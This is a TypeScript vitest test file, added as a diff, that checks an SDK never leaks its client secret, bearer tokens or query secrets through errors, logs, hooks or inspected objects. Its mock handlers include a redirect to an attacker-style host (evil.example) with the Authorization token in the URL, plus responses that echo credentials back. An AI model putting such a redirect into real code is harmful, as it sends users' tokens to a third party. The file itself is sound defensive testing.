@@ -1,0 +1,91 @@
+import { inspect } from 'node:util';
+import { describe, expect, test } from 'vitest';
+import { createRuntime } from '../../../src/index.ts';
+import { createWorld, errorOf, json, operations, secret, surface, type Handler } from '../../support/world.ts';
+
+const leaks = (world: ReturnType<typeof createWorld>, text: string): string[] =>
+  [secret, 'very-secret', 'Bearer ', 'query-secret']
+    .filter((word) => text.includes(word))
+    .concat(world.tokens.filter((token) => text.includes(token)));
+
+const show = (value: unknown): string =>
+  `${inspect(value, { depth: 20, showHidden: true, getters: true })} ${JSON.stringify(value)} ${String(value)} ${(value as Error)?.stack ?? ''}`;
+
+/** Everything that may go wrong, each quoting as much as it can of what was sent. */
+const handlers: Readonly<Record<string, Handler>> = {
+  'a 401': (sent) => json({}, 401, { 'www-authenticate': sent.headers['authorization'] ?? '' }),
+  'a 403': () => json({ code: 'NO' }, 403),
+  'a 429': () => json({}, 429, { 'retry-after': '500' }),
+  'a 500': () => new Response('<html>', { status: 500 }),
+  'a broken connection that quotes its headers': (sent) => {
+    throw Object.assign(new TypeError(`fetch failed with ${JSON.stringify(sent.headers)} ${sent.url}`), {
+      code: 'ECONNRESET',
+      headers: sent.headers,
+    });
+  },
+  'a redirect': (sent) =>
+    new Response(null, {
+      status: 302,
+      headers: { location: `https://evil.example/?t=${sent.headers['authorization']}` },
+    }),
+  'a body that is not JSON': () => new Response('{"a"'),
+  'a success': () => json({ ok: true }),
+};
+
+describe('T10: the secret and the token appear nowhere', () => {
+  test.each(Object.entries(handlers))('after %s', async (_, handler) => {
+    const told: unknown[] = [];
+    const tell = (...from: readonly unknown[]): void => void told.push(from);
+    const world = createWorld({ handler });
+    const runtime = world.runtime({
+      logger: { debug: tell, info: tell, warn: tell },
+      hooks: { onRequest: tell, onResponse: tell, onRetry: tell, onThrottle: tell, onTokenRefresh: tell },
+    });
+    const end = await Promise.resolve(
+      runtime.call(operations.list, { query: { page_token: 'query-secret' } }).withResponse(),
+    ).catch((error: unknown) => error);
+    await errorOf(
+      runtime.raw
+        .GET('/v2/things' as never, { params: { query: { page_token: 'query-secret' } } } as never)
+        .then(() => Promise.reject(new Error('done'))),
+    );
+    expect(world.tokens.length).toBeGreaterThan(0);
+    expect(told.length).toBeGreaterThan(2);
+    // A success holds what the server sent; an error holds what this SDK made of it.
+    if (end instanceof Error) expect(leaks(world, show(end))).toEqual([]);
+    expect(leaks(world, show(told))).toEqual([]);
+    expect(leaks(world, show(runtime))).toEqual([]);
+    expect(leaks(world, show(runtime.limits()))).toEqual([]);
+  });
+
+  test('where the token endpoint quotes it back', async () => {
+    const world = createWorld({
+      tokenHandler: () =>
+        json({ error: secret.slice(0, 3), error_description: `client_secret=${secret} is wrong` }, 400),
+    });
+    expect(leaks(world, show(await errorOf(world.runtime().call(operations.list, {}))))).toEqual([]);
+  });
+
+  test('where the token endpoint cannot be reached', async () => {
+    const world = createWorld();
+    const runtime = createRuntime(surface, {
+      ...world.options,
+      fetch: async (request) => {
+        throw new Error(`could not send ${await request.text()}`);
+      },
+    });
+    const error = await errorOf(runtime.call(operations.list, {}));
+    expect(error).toMatchObject({ name: 'TokenError' });
+    expect(leaks(world, show(error))).toEqual([]);
+  });
+
+  test('in the options of a client, once it is made', async () => {
+    const world = createWorld();
+    const runtime = createRuntime(surface, { ...world.options, auth: { token: 'very-secret-token' } });
+    expect(show(runtime)).not.toContain('very-secret-token');
+    const auth = { authUrl: 'https://auth.example.com', clientId: 'c', clientSecret: async () => secret };
+    const withProvider = createRuntime(surface, { ...world.options, auth });
+    await withProvider.call(operations.list, {});
+    expect(leaks(world, show(withProvider))).toEqual([]);
+  });
+});
